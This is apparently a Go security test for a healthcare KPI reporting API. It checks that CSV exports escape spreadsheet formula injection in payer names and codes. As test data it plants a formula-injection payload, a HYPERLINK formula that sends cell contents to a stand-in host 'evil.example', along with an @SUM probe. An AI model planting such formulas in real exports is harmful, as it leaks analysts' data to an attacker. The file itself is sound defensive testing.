package apisvc

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"strconv"
	"testing"

	"github.com/remitq/remitq/pkg/kpi"
	"github.com/remitq/remitq/pkg/kpistore"
)

// formulaCell reports a CSV cell a spreadsheet would run as a formula:
// one starting with = + @ (or - when it is not a number), or a tab or
// carriage return.
func formulaCell(s string) bool {
	if s == "" {
		return false
	}
	switch s[0] {
	case '=', '+', '@', '\t', '\r':
		return true
	case '-':
		_, err := strconv.ParseFloat(s, 64)
		return err != nil
	}
	return false
}

// TestAttack2ReportCSVFormulaInjection: the KPI CSV exports write payer
// names and payer codes as they are. Both come from 835 files (N1*PR,
// REF*2U) any uploader sends; a name like =HYPERLINK(...) is run as a
// formula when the analyst opens the export in a spreadsheet. Cells
// starting with = + - @ must be neutralised (a leading ').
func TestAttack2ReportCSVFormulaInjection(t *testing.T) {
	f := newFixture(t)
	f.exec(`UPDATE payers SET name = $2, payer_id_code = $3 WHERE id = $1`, f.payer,
		`=HYPERLINK("http://evil.example/?"&A1,"Big Payer")`, `@SUM(1+1)`)
	// A day of practice 2 at that payer, as the refresher writes it (the
	// fixture has no matched claims for the refresher to fold).
	for _, basis := range []string{"remit", "service"} {
		f.exec(`INSERT INTO kpi_daily (basis, day, practice_id, payer_code, provider_npi, cpt, m)
			VALUES ($1, '2026-10-01', $2, '@SUM(1+1)', $3, '64483', array_fill(1::bigint, ARRAY[$4::int]))`, basis, f.p2, npiC, int(kpi.NumMeasures))
		f.exec(`INSERT INTO kpi_facts (source, k1, k2, basis, day, practice_id, payer_code, provider_npi, cpt, m)
			VALUES ('C', $5, 1, $1, '2026-10-01', $2, '@SUM(1+1)', $3, '64483', array_fill(1::bigint, ARRAY[$4::int]))`, basis, f.p2, npiC, int(kpi.NumMeasures), f.fileP2)
	}
	_ = kpistore.Refresh
	_ = context.Background
	for _, path := range []string{
		"/v1/reports/denial_rate?format=csv&group_by=payer&from=2020-01-01&to=2027-12-31",
		fmt.Sprint("/v1/reports/denial_rate?format=csv&group_by=payer&detail=1&from=2020-01-01&to=2027-12-31&practice_id=", f.p2),
	} {
		r := f.do("sup2", "GET", path, nil)
		if r.code != http.StatusOK {
			t.Fatalf("%s: %d %s", path, r.code, r.body)
		}
		recs, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		if len(recs) < 2 {
			t.Fatalf("%s: no data rows: %s", path, r.body)
		}
		for i, rec := range recs {
			for j, cell := range rec {
				if formulaCell(cell) {
					t.Errorf("%s: row %d column %q is a formula: %q", path, i, recs[0][j], cell)
				}
			}
		}
	}
}
